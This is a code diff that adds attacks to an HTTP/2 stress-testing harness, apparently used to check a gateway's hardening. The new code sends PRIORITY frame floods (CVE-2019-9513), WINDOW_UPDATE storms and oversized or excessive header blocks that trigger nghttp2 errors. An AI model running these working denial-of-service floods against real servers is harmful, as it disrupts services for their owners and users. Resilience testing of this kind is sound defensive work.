@@ -23,6 +23,9 @@ Attacks:
   settings-flood     --count N: SETTINGS frames (CVE-2019-9515)
   ping-flood         --count N: PING frames (CVE-2019-9512); --no-read: never read while sending
   empty-data         --count N: DATA frames of length 0 without END_STREAM on an open stream (CVE-2019-9518)
+  priority-flood     --count N: PRIORITY frames naming N idle streams, then a GET above them (CVE-2019-9513);
+                     its status is reported as followStatus
+  window-update-flood --count N: connection WINDOW_UPDATE(1) frames, then a GET (followStatus)
   zero-window        --count N streams: SETTINGS_INITIAL_WINDOW_SIZE 0, GET --path on N streams, never
                      WINDOW_UPDATE (--dribble B: B bytes per stream every 200 ms); watches for --hold seconds
                      (CVE-2019-9517, CVE-2019-9511)
@@ -260,6 +263,17 @@ def headers_frame(stream, fields, end_stream=True):
     return frame(HEADERS, flags, stream, block(fields))
 
 
+def header_frames(stream, fragment, end_stream=True, limit=16384):
+    """A header block as HEADERS plus as many CONTINUATION frames as the frame size limit needs."""
+    chunks = [fragment[i:i + limit] for i in range(0, len(fragment), limit)] or [b""]
+    out = bytearray()
+    for index, chunk in enumerate(chunks):
+        kind = HEADERS if index == 0 else CONTINUATION
+        flags = (END_STREAM if index == 0 and end_stream else 0) | (END_HEADERS if index == len(chunks) - 1 else 0)
+        out += frame(kind, flags, stream, chunk)
+    return bytes(out)
+
+
 # MARK: attacks
 
 def rapid_reset(c, args):
@@ -325,6 +339,34 @@ def hpack_bomb(c, args):
     c.pump(3, until=lambda: c.result["goaway"] is not None or "3" in c.result["resets"])
     c.pump(0.3)
     c.finish("hpack-bomb", {"referencesSent": args.count})
+
+
+def frame_flood(c, args, kind):
+    """PRIORITY frames for (idle) streams, or WINDOW_UPDATE frames on the connection, as fast as possible
+    (CVE-2019-9513 and the WINDOW_UPDATE storm of HARDENING §B3.7)."""
+    c.start()
+    update = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
+    sent = 0
+    for round_ in range(max(1, args.count // 256)):
+        if kind == PRIORITY:
+            # Each PRIORITY names a different idle stream, as a priority tree of idle streams would grow.
+            batch = b"".join(frame(PRIORITY, 0, 1 + 2 * (256 * round_ + i), struct.pack(">IB", 0, 15))
+                             for i in range(256))
+        else:
+            batch = update * 256
+        if not c.send(batch, frames=256):
+            break
+        sent += 256
+        c.read_available()
+        if c.ended():
+            break
+    # Then a request on the same connection, on a stream above every one named: answered if the flood passed.
+    follow = 1 + 2 * (sent + 1)
+    if not c.ended():
+        c.send(headers_frame(follow, request_fields(args.authority, args.path)))
+        c.pump(3, until=lambda: str(follow) in c.result["statuses"] or c.ended())
+    c.finish("priority-flood" if kind == PRIORITY else "window-update-flood",
+             {"floodFramesSent": sent, "followStatus": c.result["statuses"].get(str(follow))})
 
 
 def control_flood(c, args, kind):
@@ -426,6 +468,13 @@ def malformed_case(name, authority, path):
         "cl-zero-with-data": (post + [("content-length", "0")], [b"G" * 40]),
         "cl-short": (post + [("content-length", "10")], [b"G" * 40]),
         "cl-long": (post + [("content-length", "100")], [b"G" * 40]),
+        "too-many-headers": (base + [("x-h-%d" % i, "v") for i in range(120)], []),
+        "too-many-cookies": (base + [("cookie", "c%d=v" % i) for i in range(120)], []),
+        # Over the 60 KiB header list but under nghttp2's 64 KiB per field: a stream error.
+        "huge-header": (base + [("x-huge", "h" * (62 * 1024))], []),
+        "huge-path": ([f if f[0] != ":path" else (":path", "/" + "p" * (62 * 1024)) for f in base], []),
+        # Over 64 KiB in one field: nghttp2's HPACK decoder gives up, a connection error (COMPRESSION_ERROR).
+        "giant-header": (base + [("x-giant", "g" * (70 * 1024))], []),
     }
     return cases[name]
 
@@ -435,6 +484,7 @@ MALFORMED = [
     "missing-method", "missing-path", "missing-scheme", "duplicate-path", "duplicate-method",
     "pseudo-after-regular", "unknown-pseudo", "relative-path", "authority-host-mismatch", "crlf-in-value",
     "nul-in-value", "leading-space", "empty-name", "cl-zero-with-data", "cl-short", "cl-long",
+    "too-many-headers", "too-many-cookies", "huge-header", "huge-path", "giant-header",
 ]
 
 
@@ -443,7 +493,7 @@ def malformed(c, args):
         raise SystemExit("unknown case %r; known: %s" % (args.case, ", ".join(MALFORMED)))
     c.start()
     fields, bodies = malformed_case(args.case, args.authority, args.path)
-    payload = frame(HEADERS, END_HEADERS | (0 if bodies else END_STREAM), 1, block(fields))
+    payload = header_frames(1, block(fields), end_stream=not bodies)
     if bodies and args.split:
         # The head alone first, so the gateway has started the request before the DATA breaks it.
         c.send(payload)
@@ -475,6 +525,8 @@ ATTACKS = {
     "settings-flood": lambda c, a: control_flood(c, a, SETTINGS),
     "ping-flood": lambda c, a: control_flood(c, a, PING),
     "empty-data": empty_data,
+    "priority-flood": lambda c, a: frame_flood(c, a, PRIORITY),
+    "window-update-flood": lambda c, a: frame_flood(c, a, WINDOW_UPDATE),
     "zero-window": zero_window,
     "many-streams": many_streams,
     "malformed": malformed,
